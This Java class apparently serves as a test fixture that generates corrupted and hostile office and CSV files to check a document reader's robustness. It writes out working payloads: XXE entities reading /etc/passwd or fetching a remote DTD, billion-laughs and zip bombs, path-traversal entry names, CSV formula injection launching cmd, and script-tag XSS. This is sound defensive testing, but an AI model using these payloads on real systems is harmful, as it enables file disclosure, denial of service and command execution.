package nl.draagvlak.rendering;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/**
 * Damaged and hostile files, each the same for the same number: what mail, copying and old programs break, and what somebody would make to stop a
 * workbench, read its disk or have it call elsewhere.
 */
public final class HostileFiles {

    /** Where outside entities and links of these files lead; nobody may ever come there. */
    private final String elsewhere;
    private final Map<Kind, byte[]> good = new LinkedHashMap<>();

    /** What a file says to be. */
    public enum Kind { DOCX, ODT, XLSX, CSV }

    /**
     * A file.
     *
     * @param how   what was done to it
     * @param never whether it may be read at all; what is only damaged a little may be, and what is empty of harm
     */
    public record Hostile(int number, Kind kind, String how, boolean never, String name, byte[] bytes) {
        @Override
        public String toString() {
            return number + " " + kind + " " + how + " (" + bytes.length + " bytes)";
        }
    }

    public HostileFiles(String elsewhere) {
        this.elsewhere = elsewhere;
        good.put(Kind.DOCX, new WordFiles().title("Plan").heading(1, "Inleiding").paragraph("waarde-1").bullet(0, "een").footnote("Tekst.", "Noot.")
                .table(new String[] {"a", "b"}, new String[] {"1", "2"}).commented("Wat ", "is", " dit?", "Iemand", "Een vraag.").bytes());
        good.put(Kind.ODT, odt());
        good.put(Kind.XLSX, xlsx());
        good.put(Kind.CSV, csv().getBytes(StandardCharsets.UTF_8));
    }

    public byte[] good(Kind kind) {
        return good.get(kind);
    }

    private static String csv() {
        StringBuilder text = new StringBuilder("organisatie;sector;uitspraak;soort;deelnemer;stem;jaar;waarde;name;vote;datum\n");
        for (int i = 0; i < 40; i++) {
            text.append("waarde-").append(i).append(";ngo;Uitspraak ").append(i).append(";probleem;").append(i).append(";eens;").append(2000 + i).append(";1,5;Zoë;1;2026-01-01\n");
        }
        return text.toString();
    }

    private static byte[] xlsx() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (XSSFWorkbook book = new XSSFWorkbook()) {
            XSSFSheet sheet = book.createSheet("blad");
            String[] lines = csv().split("\n");
            for (int row = 0; row < lines.length; row++) {
                String[] cells = lines[row].split(";");
                for (int cell = 0; cell < cells.length; cell++) {
                    (cell == 0 ? sheet.createRow(row) : sheet.getRow(row)).createCell(cell).setCellValue(cells[cell]);
                }
            }
            book.write(bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] odt() {
        String flat = DocumentReadingTests.FLAT;
        String content = flat.replace("office:document xmlns", "office:document-content xmlns").replace("</office:document>", "</office:document-content>")
                .replace(" office:mimetype=\"application/vnd.oasis.opendocument.text\"", "").replace("Wij helpen", "waarde-1");
        byte[] file = Packed.zip(Map.of("mimetype", "application/vnd.oasis.opendocument.text".getBytes(StandardCharsets.US_ASCII)));
        file = Zips.with(file, "content.xml", content.strip().getBytes(StandardCharsets.UTF_8));
        return Zips.with(file, "META-INF/manifest.xml", "<manifest/>".getBytes(StandardCharsets.US_ASCII));
    }

    /** The part in which the words are. */
    private static String heart(Kind kind) {
        return switch (kind) {
            case DOCX -> "word/document.xml";
            case ODT -> "content.xml";
            case XLSX -> "xl/sharedStrings.xml";
            case CSV -> throw new IllegalArgumentException();
        };
    }

    /** The file with this number, from 0. */
    public Hostile make(int number) {
        Random random = new Random(20261122L + number);
        Kind kind = Kind.values()[number % 4];
        byte[] base = good.get(kind);
        return kind == Kind.CSV ? table(number, random, base) : packed(number, kind, random, base);
    }

    private Hostile packed(int number, Kind kind, Random random, byte[] base) {
        String heart = heart(kind);
        return switch (number / 4 % 26) {
            case 0 -> hostile(number, kind, "bits flipped", false, flipped(base, random));
            case 1 -> hostile(number, kind, "cut off", true, Arrays.copyOf(base, 1 + random.nextInt(base.length - 1)));
            case 2 -> hostile(number, kind, "a stretch overwritten", false, overwritten(base, random));
            case 3 -> hostile(number, kind, "two files glued together", true, glued(base, good.get(Kind.values()[random.nextInt(3)])));
            case 4 -> hostile(number, kind, "a part that unpacks to gigabytes", true, Packed.bomb(base, "bom.xml", 1_000 + random.nextInt(1_000), true));
            case 5 -> hostile(number, kind, "a part that lies about its size", true, Packed.bomb(base, random.nextBoolean() ? "bom.bin" : "bom.xml", 200 + random.nextInt(300), false));
            case 6 -> hostile(number, kind, "elements in elements", true, Zips.changed(base, heart, xml -> inside(xml, "<x>".repeat(50_000 + random.nextInt(50_000)), "")));
            case 7 -> hostile(number, kind, "entities in entities", true, Zips.changed(base, heart, xml -> doctype(xml, laughs(20 + random.nextInt(40)), "&a15;")));
            case 8 -> hostile(number, kind, "an entity from the disk", true, Zips.changed(base, heart, xml -> doctype(xml, "<!ENTITY e SYSTEM \"file:///etc/passwd\">", "&e;")));
            case 9 -> hostile(number, kind, "an entity from elsewhere", true,
                    Zips.changed(base, heart, xml -> doctype(xml, "<!ENTITY % p SYSTEM \"" + elsewhere + "/p.dtd\"> %p; <!ENTITY e SYSTEM \"" + elsewhere + "/e\">", "&e;")));
            case 10 -> hostile(number, kind, "a huge attribute", true, Zips.changed(base, heart, xml -> inside(xml, "<x y=\"" + "a".repeat(2_000_000 + random.nextInt(8_000_000)) + "\"/>", "")));
            case 11 -> hostile(number, kind, "a million rows", false, Zips.changed(base, kind == Kind.XLSX ? "xl/worksheets/sheet1.xml" : heart, xml -> rows(kind, xml, 100_000 + random.nextInt(300_000))));
            case 12 -> hostile(number, kind, "another content type", false, kind == Kind.ODT ? Zips.changed(base, "mimetype", type -> type.replace("text", "graphics"))
                    : Zips.changed(base, "[Content_Types].xml", types -> types.replaceAll("(wordprocessingml|spreadsheetml)", random.nextBoolean() ? "presentationml" : "nothingml")));
            case 13 -> hostile(number, kind, "a name twice", true, Zips.with(base, heart, "<x/>".getBytes(StandardCharsets.US_ASCII)));
            case 14 -> hostile(number, kind, "a name that leads out", true,
                    Zips.with(base, List.of("../../../tmp/kwaad.sh", "/etc/cron.d/kwaad", "a/../../kwaad", "a/..\\..\\kwaad", "C:/kwaad", "a\u0000b/c").get(random.nextInt(6)), new byte[] {1}));
            case 15 -> hostile(number, kind, "null bytes", true, Zips.changed(base, heart, xml -> xml.replace("waarde-1", "waarde\u0000-1")));
            case 16 -> hostile(number, kind, "letters that are none", true, Packed.replaced(base, heart, bytes -> broken(bytes, random)));
            case 17 -> hostile(number, kind, "macros", true, kind == Kind.ODT ? Zips.with(base, "Basic/Standard/Module1.xml", new byte[] {1})
                    : Zips.with(base, (kind == Kind.DOCX ? "word" : "xl") + "/vbaProject.bin", new byte[] {1}));
            case 18 -> hostile(number, kind, "thousands of parts", true, Packed.many(base, 3_100 + random.nextInt(2_000)));
            case 19 -> hostile(number, kind, "numbers out of bounds", false, Zips.changed(base, kind == Kind.XLSX ? "xl/worksheets/sheet1.xml" : heart, xml -> outOfBounds(kind, xml, random)));
            case 20 -> hostile(number, kind, "names without end", true, Zips.changed(base, heart, xml -> inside(xml, names(20_000 + random.nextInt(20_000)), "")));
            case 21 -> hostile(number, kind, "another encoding than it says", false, Packed.replaced(base, heart, bytes -> recoded(bytes, random)));
            case 22 -> hostile(number, kind, "a remark without end", false, Zips.changed(base, heart, xml -> inside(xml, "<!-- " + "x <y ".repeat(1_000_000) + "-->", "")));
            case 23 -> hostile(number, kind, "only the name", true, noise(random, kind));
            case 24 -> hostile(number, kind, "parts left out", false, Packed.without(base, random));
            default -> hostile(number, kind, "another kind behind the name", true, otherKind(random));
        };
    }

    private Hostile table(int number, Random random, byte[] base) {
        return switch (number / 4 % 16) {
            case 0 -> hostile(number, Kind.CSV, "bits flipped", false, flipped(base, random));
            case 1 -> hostile(number, Kind.CSV, "cut off", false, Arrays.copyOf(base, 1 + random.nextInt(base.length - 1)));
            case 2 -> hostile(number, Kind.CSV, "a stretch overwritten", false, overwritten(base, random));
            case 3 -> hostile(number, Kind.CSV, "a row without end", true, (csv() + ";".repeat(1_000_000 + random.nextInt(3_000_000))).getBytes(StandardCharsets.UTF_8));
            case 4 -> hostile(number, Kind.CSV, "a quotation mark without end", true, (csv() + "\"" + "x;\n".repeat(random.nextInt(500_000))).getBytes(StandardCharsets.UTF_8));
            case 5 -> hostile(number, Kind.CSV, "a million rows", false, (csv() + "a;b\n".repeat(500_000 + random.nextInt(500_000))).getBytes(StandardCharsets.UTF_8));
            case 6 -> hostile(number, Kind.CSV, "a cell of megabytes", false, (csv() + "x".repeat(2_000_000 + random.nextInt(2_000_000)) + ";ngo").getBytes(StandardCharsets.UTF_8));
            case 7 -> hostile(number, Kind.CSV, "null bytes", true, csv().replace("ngo", "n\u0000go").getBytes(StandardCharsets.UTF_8));
            case 8 -> hostile(number, Kind.CSV, "UTF-16 of an odd length", true, Arrays.copyOf(("\ufeff" + csv()).getBytes(StandardCharsets.UTF_16LE), 401 + 2 * random.nextInt(200)));
            case 9 -> hostile(number, Kind.CSV, "UTF-8 that is none", false, broken(base, random));
            case 10 -> hostile(number, Kind.CSV, "another encoding", false, csv().getBytes(Charset.forName(List.of("IBM037", "windows-1252", "UTF-32", "ISO-2022-JP", "IBM850").get(random.nextInt(5)))));
            case 11 -> hostile(number, Kind.CSV, "formulas", false, csv().replace("ngo", List.of("=cmd|'/c calc'!A0", "@SUM(1)", "+1+cmd|x", "=HYPERLINK(\"\"" + elsewhere + "\"\")").get(random.nextInt(4)))
                    .getBytes(StandardCharsets.UTF_8));
            case 12 -> hostile(number, Kind.CSV, "thousands of columns and many rows", false, ("k" + String.join(";k", java.util.stream.IntStream.range(0, 2_400).mapToObj(String::valueOf).toList())
                    + "\n" + "1\n".repeat(150_000 + random.nextInt(90_000))).getBytes(StandardCharsets.UTF_8));
            case 13 -> hostile(number, Kind.CSV, "markup in the cells", false, csv().replace("Zoë", "<script>alert(1)</script><img src=x onerror=alert(1)>").getBytes(StandardCharsets.UTF_8));
            case 14 -> hostile(number, Kind.CSV, "only the name", false, noise(random, Kind.CSV));
            default -> hostile(number, Kind.CSV, "another kind behind the name", true, List.of("%PDF-1.7\n%x", "<html><table></table></html>", "{\"a\":1}").get(random.nextInt(3)).getBytes(StandardCharsets.UTF_8));
        };
    }

    private static Hostile hostile(int number, Kind kind, String how, boolean never, byte[] bytes) {
        String ending = "." + kind.name().toLowerCase(java.util.Locale.ROOT);
        String name = number % 7 == 0 ? "<script>kwaad</script>" + ending : number % 5 == 0 ? "../../kwaad" + ending : "bestand" + ending;
        return new Hostile(number, kind, how, never, name, bytes);
    }

    private static byte[] flipped(byte[] base, Random random) {
        byte[] bytes = base.clone();
        for (int i = 0; i < 1 + random.nextInt(20); i++) {
            bytes[random.nextInt(bytes.length)] ^= (byte) (1 << random.nextInt(8));
        }
        return bytes;
    }

    private static byte[] overwritten(byte[] base, Random random) {
        byte[] bytes = base.clone();
        int from = random.nextInt(bytes.length);
        byte[] other = new byte[Math.min(bytes.length - from, 1 + random.nextInt(400))];
        if (random.nextBoolean()) {
            random.nextBytes(other);
        }
        System.arraycopy(other, 0, bytes, from, other.length);
        return bytes;
    }

    private static byte[] glued(byte[] one, byte[] other) {
        byte[] both = Arrays.copyOf(one, one.length + other.length);
        System.arraycopy(other, 0, both, one.length, other.length);
        return both;
    }

    private static byte[] noise(Random random, Kind kind) {
        byte[] bytes = new byte[1 + random.nextInt(5_000)];
        random.nextBytes(bytes);
        if (kind != Kind.CSV && bytes.length > 4) {
            System.arraycopy(new byte[] {'P', 'K', 3, 4}, 0, bytes, 0, 4);
        }
        return bytes;
    }

    private byte[] otherKind(Random random) {
        return switch (random.nextInt(5)) {
            case 0 -> "%PDF-1.7\n%x".getBytes(StandardCharsets.US_ASCII);
            case 1 -> "{\\rtf1\\ansi kwaad}".getBytes(StandardCharsets.US_ASCII);
            case 2 -> glued(new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1}, "WordDocument".getBytes(StandardCharsets.UTF_16LE));
            case 3 -> Packed.zip(Map.of("mimetype", "application/epub+zip".getBytes(StandardCharsets.US_ASCII)));
            default -> Packed.zip(Map.of("binnen.zip", Packed.zip(Map.of("binnen.zip", Packed.zip(Map.of("word/document.xml", new byte[] {1}))))));
        };
    }

    /** Something put in behind the first element of the text. */
    private static String inside(String xml, String more, String otherwise) {
        int at = xml.indexOf("waarde-1");
        int tag = xml.lastIndexOf('<', at);
        return xml.substring(0, tag) + more + otherwise + xml.substring(tag);
    }

    private static String doctype(String xml, String declarations, String use) {
        int root = xml.startsWith("<?") ? xml.indexOf("?>") + 2 : 0;
        return xml.substring(0, root) + "<!DOCTYPE x [" + declarations + "]>" + xml.substring(root).replace("waarde-1", use);
    }

    private static String laughs(int deep) {
        StringBuilder laughs = new StringBuilder("<!ENTITY a0 \"ha\">");
        for (int i = 1; i < deep; i++) {
            laughs.append("<!ENTITY a").append(i).append(" \"").append(("&a" + (i - 1) + ";").repeat(10)).append("\">");
        }
        return laughs.toString();
    }

    private static String rows(Kind kind, String xml, int count) {
        return switch (kind) {
            case DOCX -> xml.replace("<w:sectPr", "<w:tbl>" + "<w:tr><w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc></w:tr>".repeat(count) + "</w:tbl><w:sectPr")
                    .replace("</w:body>", "<w:p><w:r><w:t>y</w:t></w:r></w:p>".repeat(count) + "</w:body>");
            case ODT -> xml.replace("</table:table>", "<table:table-row><table:table-cell/></table:table-row>".repeat(count) + "</table:table>");
            case XLSX -> xml.replace("</sheetData>", "<row><c><v>1</v></c></row>".repeat(2 * count) + "</sheetData>");
            case CSV -> throw new IllegalArgumentException();
        };
    }

    private static String outOfBounds(Kind kind, String xml, Random random) {
        String number = List.of("2147483647", "-1", "99999999999999999999", "1000000000", "NaN", "").get(random.nextInt(6));
        return switch (kind) {
            case DOCX -> xml.replaceFirst("<w:tc>", "<w:tc><w:tcPr><w:gridSpan w:val=\"" + number + "\"/></w:tcPr>").replaceAll("w:ilvl w:val=\"\\d+\"", "w:ilvl w:val=\"" + number + "\"");
            case ODT -> xml.replace("table:number-columns-spanned=\"2\"", "table:number-columns-spanned=\"" + number + "\" table:number-columns-repeated=\"" + number + "\"")
                    .replace("text:outline-level=\"1\"", "text:outline-level=\"" + number + "\"").replace("die hulp", "<text:s text:c=\"" + number + "\"/>die hulp");
            case XLSX -> xml.replace("r=\"B3\"", "r=\"" + List.of("XFD1048576", "AAAAAAAAAA1", "B", "1", "").get(random.nextInt(5)) + "\"").replace("<v>7</v>", "<v>" + number + "</v>");
            case CSV -> throw new IllegalArgumentException();
        };
    }

    private static String names(int count) {
        StringBuilder names = new StringBuilder();
        for (int i = 0; i < count; i++) {
            names.append("<n").append(i).append(" a").append(i).append("=\"\"/>");
        }
        return names.toString();
    }

    private static byte[] broken(byte[] bytes, Random random) {
        byte[] changed = bytes.clone();
        String text = new String(changed, StandardCharsets.ISO_8859_1);
        int at = Math.max(0, text.indexOf("waarde-1"));
        changed[at] = (byte) (0xf8 + random.nextInt(8));
        changed[at + 1] = (byte) 0xc0;
        return changed;
    }

    private static byte[] recoded(byte[] bytes, Random random) {
        String text = new String(bytes, StandardCharsets.UTF_8);
        return switch (random.nextInt(4)) {
            case 0 -> text.getBytes(StandardCharsets.UTF_16LE);
            case 1 -> text.replaceFirst("encoding=\"[^\"]*\"", "encoding=\"UTF-7\"").getBytes(StandardCharsets.UTF_8);
            case 2 -> text.replaceFirst("encoding=\"[^\"]*\"", "encoding=\"" + "x".repeat(5_000) + "\"").getBytes(StandardCharsets.UTF_8);
            default -> text.getBytes(Charset.forName("IBM037"));
        };
    }
}
